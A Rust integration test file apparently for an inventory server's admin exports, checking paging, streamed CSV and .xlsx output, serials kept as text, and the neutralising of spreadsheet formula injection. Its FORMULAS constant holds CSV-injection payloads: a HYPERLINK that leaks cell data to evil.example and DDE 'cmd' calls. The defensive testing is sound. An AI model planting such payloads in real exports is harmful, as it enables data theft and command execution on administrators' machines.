//! The admin listener's lists and exports against the real binary: a flood of serials is
//! paged (`/serials/missing?limit=&offset=`), never answered whole; the CSV exports are
//! complete (every device, not the first page), streamed, keep serials as text (leading
//! zeros, all 16 digits) and never carry a formula a device wrote; the .xlsx exports open
//! (unzipped and read here) with serials as string cells and the same filters.

use crate::inventory_scenarios;

use std::collections::HashMap;
use std::io::Read;

use crate::common::{eventually, Fixture, Server, DEADLINE};
use crate::inventory_scenarios::{admin, admin_json, check_in, deployment_with, serial, start};

/// Registers at many addresses through the trusted proxy (at most 50 serials each: the
/// inventory keeps a bounded number per address).
fn flood_serials(server: &Server, addresses: usize, per_address: usize) -> Vec<String> {
    let mut sent = Vec::new();
    for a in 0..addresses {
        let address = format!("10.{}.{}.1", 20 + a / 200, a % 200);
        for n in 0..per_address {
            // Spread over the whole range, with leading zeros, none licensed.
            let value = (a * per_address + n) as u64 * 4_999_999_999_989 % 9_999_999_999_999_999;
            let text = format!("{value:016}");
            assert_eq!(serial(server, &address, &text), 404, "{text}");
            sent.push(text);
        }
    }
    sent.sort();
    sent.dedup();
    sent
}

/// The serials of a `/serials/missing` answer.
fn serials_of(list: &serde_json::Value) -> Vec<String> {
    list["serials"]
        .as_array()
        .expect("serials")
        .iter()
        .map(|s| s["serial"].as_str().expect("serial").to_string())
        .collect()
}

#[test]
fn a_flood_of_serials_is_paged_never_answered_whole() {
    let fixture = deployment_with("");
    let server = start(&fixture, &[]);
    let sent = flood_serials(&server, 40, 50);
    assert_eq!(sent.len(), 2000);
    let first = eventually("every serial written", DEADLINE, || {
        let list = admin_json(&server, "/serials/missing");
        (list["total"] == 2000).then_some(list)
    });
    // The default page is 100 rows, as on /devices, in serial order.
    assert_eq!(serials_of(&first), sent[..100], "{first}");
    let size = admin(&server, "/serials/missing").body.len();
    assert!(size < 20_000, "the default page is {size} bytes");

    // Pages put together give every serial once.
    let mut all = Vec::new();
    for offset in [0, 700, 1400] {
        let page = admin_json(
            &server,
            &format!("/serials/missing?limit=700&offset={offset}"),
        );
        assert_eq!(page["total"], 2000);
        all.extend(serials_of(&page));
    }
    assert_eq!(all, sent);
    let last = admin_json(&server, "/serials/missing?limit=100&offset=1950");
    assert_eq!(serials_of(&last), sent[1950..]);
    let past = admin_json(&server, "/serials/missing?offset=5000");
    assert_eq!(
        (past["total"].as_u64(), serials_of(&past).len()),
        (Some(2000), 0)
    );
    // Each row still says where and when it was asked for.
    let row = &first["serials"][0];
    assert!(
        row["address"]
            .as_str()
            .is_some_and(|a| a.starts_with("10.2"))
            && row["last_seen"].as_u64().is_some_and(|t| t > 0),
        "{row}"
    );

    // Bad paging values: the same plain words as /devices.
    for (query, expected) in [
        (
            "limit=100001",
            "limit must be a whole number from 0 to 100000; got \"100001\"",
        ),
        (
            "limit=-1",
            "limit must be a whole number from 0 to 100000; got \"-1\"",
        ),
        ("offset=x", "offset must be a whole number from 0 to"),
    ] {
        for path in ["/serials/missing", "/serials/missing.csv", "/devices.csv"] {
            let bad = admin(&server, &format!("{path}?{query}"));
            assert_eq!(bad.status, 400, "{path}?{query}");
            assert!(
                bad.error().contains(expected),
                "{path}?{query}: {}",
                bad.error()
            );
        }
    }

    // The CSV export has them all, streamed, each serial as text.
    let csv = admin(&server, "/serials/missing.csv");
    assert_eq!(csv.status, 200);
    assert_eq!(csv.header("transfer-encoding"), Some("chunked"), "streamed");
    let rows = parse_csv(&csv.text());
    assert_eq!(rows[0], ["serial", "last_address", "last_seen"]);
    let exported: Vec<String> = rows[1..]
        .iter()
        .map(|r| {
            r[0].strip_prefix('\t')
                .expect("a serial as text")
                .to_string()
        })
        .collect();
    assert_eq!(exported, sent);
    // And a window of it, when asked for.
    let window = parse_csv(&admin(&server, "/serials/missing.csv?limit=10&offset=5").text());
    assert_eq!(window.len(), 11);
    assert_eq!(window[1][0], format!("\t{}", sent[5]));
}

/// Splits a `;`-separated, `"`-quoted CSV (what Excel and LibreOffice read) into fields.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let text = text.strip_prefix('\u{feff}').expect("a BOM");
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, ';') => row.push(std::mem::take(&mut field)),
            (false, '\r') if chars.peek() == Some(&'\n') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    assert!(!quoted && field.is_empty() && row.is_empty(), "a cut line");
    rows
}

/// What device-controlled text tries to put into a spreadsheet.
const FORMULAS: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+7 (999) 000-00-00",
    "-2+3+cmd|' /C calc'!A0",
];

/// A fleet of 150 registers (more than a page of /devices), four of them with
/// formula-looking User-Agents, two asking for licenses of serials with leading zeros.
fn fleet(server: &Server) {
    for n in 0..150 {
        check_in(server, &format!("10.5.{}.{}", n / 100, n % 100), "1.1.2018");
    }
    for (n, agent) in FORMULAS.iter().enumerate() {
        let response = server.post_with(
            "/check_firmware",
            "{\"build_date\": \"25.01.2018\"}",
            &[
                ("X-Forwarded-For", &format!("10.6.0.{n}")),
                ("User-Agent", agent),
            ],
        );
        assert_eq!(response.status, 200);
    }
    assert_eq!(serial(server, "10.5.0.7", "12345"), 200);
    assert_eq!(serial(server, "10.5.0.7", "0000000000000077"), 404);
    assert_eq!(serial(server, "10.5.0.8", "1234567890123456"), 404);
    inventory_scenarios::wait_devices(server, "", 154);
    eventually("the serials written", DEADLINE, || {
        (admin_json(server, "/serials/missing")["total"] == 2).then_some(())
    });
}

#[test]
fn csv_exports_are_complete_keep_serials_as_text_and_carry_no_formula() {
    let fixture = deployment_with("");
    let server = start(&fixture, &[]);
    fleet(&server);

    let csv = admin(&server, "/devices.csv");
    assert_eq!(csv.status, 200);
    assert_eq!(csv.header("transfer-encoding"), Some("chunked"), "streamed");
    assert_eq!(
        csv.header("content-disposition"),
        Some("attachment; filename=\"devices.csv\"")
    );
    let rows = parse_csv(&csv.text());
    let header = &rows[0];
    assert_eq!(header[0], "address");
    // Every device, not the first 100 of /devices.
    assert_eq!(rows.len(), 1 + 154, "{}", csv.text());
    let column = |name: &str| header.iter().position(|h| h == name).expect(name);
    let (address, agent, serials) = (column("address"), column("user_agent"), column("serials"));
    let by_address: HashMap<&str, &Vec<String>> =
        rows[1..].iter().map(|r| (r[address].as_str(), r)).collect();
    // Serials as text: leading zeros and all 16 digits, after a tab that keeps Excel and
    // LibreOffice from reading a number.
    let cell = &by_address["10.5.0.7"][serials];
    assert!(
        cell == "\t0000000000000077 0000000000012345"
            || cell == "\t0000000000012345 0000000000000077",
        "{cell:?}"
    );
    assert_eq!(by_address["10.5.0.8"][serials], "\t1234567890123456");
    assert_eq!(by_address["10.5.0.9"][serials], "");
    // What a device wrote is there, and no cell starts a formula.
    for (n, formula) in FORMULAS.iter().enumerate() {
        assert_eq!(
            by_address[format!("10.6.0.{n}").as_str()][agent],
            format!("'{formula}")
        );
    }
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@']),
                "a formula in the CSV: {cell:?}"
            );
        }
    }
    // The same filters as /devices: 150 built 2018-01-01, below the critical 20180120.
    let below = parse_csv(&admin(&server, "/devices.csv?below_critical=1").text());
    assert_eq!(below.len(), 1 + 150);
    assert_eq!(
        parse_csv(&admin(&server, "/devices.csv?q=0000000000012345").text())[1..]
            .iter()
            .map(|r| r[address].as_str())
            .collect::<Vec<_>>(),
        ["10.5.0.7"]
    );
    // A window, when asked for.
    assert_eq!(
        parse_csv(&admin(&server, "/devices.csv?limit=7&offset=150").text()).len(),
        1 + 4
    );

    let missing = parse_csv(&admin(&server, "/serials/missing.csv").text());
    assert_eq!(
        missing[1..]
            .iter()
            .map(|r| (r[0].as_str(), r[1].as_str()))
            .collect::<Vec<_>>(),
        [
            ("\t0000000000000077", "10.5.0.7"),
            ("\t1234567890123456", "10.5.0.8")
        ]
    );
}

/// The cells of an .xlsx's first sheet, by reference (`A1`): (type, text).
fn xlsx_cells(body: &[u8]) -> HashMap<String, (String, String)> {
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(body)).expect("an xlsx is a zip");
    let mut read = |name: &str| -> Option<String> {
        let mut text = String::new();
        archive.by_name(name).ok()?.read_to_string(&mut text).ok()?;
        Some(text)
    };
    let sheet = read("xl/worksheets/sheet1.xml").expect("sheet1.xml");
    let shared: Vec<String> = read("xl/sharedStrings.xml")
        .map(|text| {
            text.split("<si>")
                .skip(1)
                .map(|si| between(si, ">", "</t>"))
                .collect()
        })
        .unwrap_or_default();
    assert!(
        !sheet.contains("<f>") && !sheet.contains("<f "),
        "a formula in {sheet}"
    );
    let mut cells = HashMap::new();
    for cell in sheet.split("<c ").skip(1) {
        let cell = cell.split("</c>").next().unwrap_or(cell);
        let reference = between(cell, "r=\"", "\"");
        let kind = if cell.contains("t=\"") {
            between(cell, "t=\"", "\"")
        } else {
            "n".to_string()
        };
        let value = match kind.as_str() {
            "inlineStr" => between(cell, "<t", "</t>"),
            "s" => shared[between(cell, "<v>", "</v>")
                .parse::<usize>()
                .expect("index")]
            .clone(),
            _ => between(cell, "<v>", "</v>"),
        };
        let value = value
            .split_once('>')
            .map_or(value.clone(), |(_, v)| v.to_string());
        cells.insert(reference, (kind, unescape(&value)));
    }
    cells
}

fn between(text: &str, start: &str, end: &str) -> String {
    text.split_once(start)
        .and_then(|(_, rest)| rest.split_once(end))
        .map(|(inner, _)| inner.to_string())
        .unwrap_or_default()
}

fn unescape(text: &str) -> String {
    text.replace("&quot;", "\"")
        .replace("&apos;", "'")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

#[test]
fn xlsx_exports_open_with_serials_as_text_cells() {
    let fixture = deployment_with("");
    let server = start(&fixture, &[]);
    fleet(&server);

    let xlsx = admin(&server, "/devices.xlsx");
    assert_eq!(xlsx.status, 200, "{}", xlsx.text());
    assert_eq!(
        xlsx.header("content-type"),
        Some("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    );
    assert_eq!(
        xlsx.header("content-disposition"),
        Some("attachment; filename=\"devices.xlsx\"")
    );
    let cells = xlsx_cells(&xlsx.body);
    let text = |reference: &str| cells.get(reference).map(|(_, v)| v.as_str());
    assert_eq!(text("A1"), Some("address"));
    assert_eq!(text("G1"), Some("serials"));
    // A header and every device.
    let rows = (1..)
        .take_while(|n| cells.contains_key(&format!("A{n}")))
        .count();
    assert_eq!(rows, 1 + 154);
    let row_of = |address: &str| {
        (2..=rows)
            .find(|n| text(&format!("A{n}")) == Some(address))
            .unwrap_or_else(|| panic!("{address} in the sheet"))
    };
    let (kind, serials) = &cells[&format!("G{}", row_of("10.5.0.8"))];
    assert_eq!(
        (kind.as_str(), serials.as_str()),
        ("inlineStr", "1234567890123456")
    );
    let (kind, serials) = &cells[&format!("G{}", row_of("10.5.0.7"))];
    assert!(
        kind != "n" && serials.contains("0000000000000077"),
        "{kind} {serials}"
    );
    // Build dates are numbers; a device's formula is a string cell.
    assert_eq!(
        cells[&format!("B{}", row_of("10.5.0.9"))],
        ("n".into(), "20180101".into())
    );
    let (kind, agent) = &cells[&format!("F{}", row_of("10.6.0.0"))];
    assert_eq!((kind.as_str(), agent.as_str()), ("inlineStr", FORMULAS[0]));

    // The same filters as the CSV.
    let below = xlsx_cells(&admin(&server, "/devices.xlsx?below_critical=1&q=10.5.0.1").body);
    let addresses: Vec<&str> = (2..)
        .map_while(|n| below.get(&format!("A{n}")).map(|(_, v)| v.as_str()))
        .collect();
    assert_eq!(addresses.len(), 11, "{addresses:?}");
    assert!(addresses.iter().all(|a| a.starts_with("10.5.0.1")));
    let bad = admin(&server, "/devices.xlsx?outcome=gone");
    assert_eq!(bad.status, 400);
    assert!(bad.error().contains("outcome must be"), "{}", bad.error());

    // The dashboard links both forms of each export, and the links answer.
    let page = admin(&server, "/").text();
    for href in [
        "devices.csv?below_critical=1",
        "devices.xlsx?below_critical=1",
        "devices.xlsx",
        "serials/missing.csv",
        "serials/missing.xlsx",
    ] {
        assert!(
            page.contains(&format!("href=\"{href}\"")),
            "{href} on the dashboard"
        );
        assert_eq!(admin(&server, &format!("/{href}")).status, 200, "{href}");
    }

    let missing = admin(&server, "/serials/missing.xlsx");
    assert_eq!(missing.status, 200);
    let cells = xlsx_cells(&missing.body);
    assert_eq!(
        cells.get("A2"),
        Some(&("inlineStr".to_string(), "0000000000000077".to_string()))
    );
    assert_eq!(
        cells.get("A3"),
        Some(&("inlineStr".to_string(), "1234567890123456".to_string()))
    );
    assert_eq!(cells.get("B3").map(|(_, v)| v.as_str()), Some("10.5.0.8"));
    assert!(!cells.contains_key("A4"));
}

#[test]
fn exports_and_lists_need_the_inventory() {
    let fixture = Fixture::new();
    fixture.write_config("settle_ms: 0\ninventory: off\n");
    let server = Server::start(fixture.dir.path(), &["--admin-listen", "127.0.0.1:0"], &[]);
    for path in [
        "/devices.csv",
        "/devices.xlsx",
        "/serials/missing",
        "/serials/missing.csv",
        "/serials/missing.xlsx",
    ] {
        let answer = admin(&server, path);
        assert_eq!(answer.status, 503, "{path}");
        assert!(answer.error().contains("inventory unavailable"), "{path}");
    }
}
